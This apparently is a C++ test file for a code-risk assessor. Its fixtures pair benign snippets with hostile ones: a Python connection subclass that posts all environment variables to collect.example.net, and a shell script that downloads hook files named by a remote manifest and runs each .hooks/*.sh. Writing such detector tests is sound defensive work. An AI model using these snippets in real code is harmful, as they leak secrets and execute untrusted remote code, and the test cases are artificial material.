// The classes the twenty-third session modelled (issue 14): tune misses left
// by earlier rounds (tests/corpus/prog89_MANIFEST.tsv, prog93_MANIFEST.tsv)
// and the classes of the ninetieth round's tune part (prog94_MANIFEST.tsv),
// found by programs written from the rubric alone by writers who never saw
// the assessor. Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// super().__init__(host) of a subclass of a library class makes the
// instance's library part: the base's methods go to that host. A Docker
// Engine client over its unix socket sends a database password put into a
// container's environment to localhost, not out of the machine.
TEST(NinetiethRoundClasses, ALibraryBaseConstructedThroughSuperKeepsItsEndpoint) {
  const Case cases[] = {
      {"a Docker Engine client on localhost over the unix socket", H,
       "import http.client, json, os, socket\n"
       "class EngineConnection(http.client.HTTPConnection):\n"
       "    def __init__(self, path, timeout=60):\n"
       "        super().__init__('localhost', timeout=timeout)\n"
       "        self._sock_path = path\n"
       "    def connect(self):\n"
       "        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
       "        s.connect(self._sock_path)\n"
       "        self.sock = s\n"
       "conn = EngineConnection('/var/run/docker.sock')\n"
       "body = json.dumps({'Image': 'postgres:16', 'Env': ['POSTGRES_PASSWORD=' + os.environ['DB_PASSWORD']]})\n"
       "conn.request('POST', '/v1.43/containers/create?name=db', body=body)\n"
       "print(conn.getresponse().status)\n",
       "CONTAINER-ESCAPE-RISK"},
      {"a connection subclass made for a remote host posts the environment there", B,
       "import http.client, json, os\n"
       "class Collector(http.client.HTTPSConnection):\n"
       "    def __init__(self):\n"
       "        super().__init__('collect.example.net', 443, timeout=10)\n"
       "c = Collector()\n"
       "c.request('POST', '/env', body=json.dumps(dict(os.environ)))\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// A file written under a name wholly made at run time (hooks/$name, the name
// from a downloaded index) may be any file a glob of that directory finds:
// `for h in hooks/*.sh; do sh "$h"` runs the downloads.
TEST(NinetiethRoundClasses, AGlobOfADirectoryFindsFilesWrittenUnderRunTimeNames) {
  const Case cases[] = {
      {"hooks named in a downloaded manifest, fetched, then every hooks/*.sh run", B,
       "#!/bin/sh\n"
       "S=https://sync.example.org\n"
       "mkdir -p .hooks\n"
       "wget -q -O .hooks/manifest.txt \"$S/hooks/manifest.txt\" || exit 0\n"
       "while read -r name; do\n"
       "  wget -q -O \".hooks/$name\" \"$S/hooks/$name\"\n"
       "done < .hooks/manifest.txt\n"
       "for h in .hooks/*.sh; do sh \"$h\"; done\n",
       "REMOTE-CODE-EXECUTION", Language::shell},
      {"downloads kept under a .json suffix are not the scripts run", L,
       "#!/bin/sh\n"
       "S=https://sync.example.org\n"
       "mkdir -p .hooks\n"
       "wget -q -O .hooks/index.txt \"$S/data/index.txt\" || exit 0\n"
       "while read -r name; do\n"
       "  wget -q -O \".hooks/$name.json\" \"$S/data/$name.json\"\n"
       "done < .hooks/index.txt\n"
       "for h in .hooks/*.sh; do sh \"$h\"; done\n",
       nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
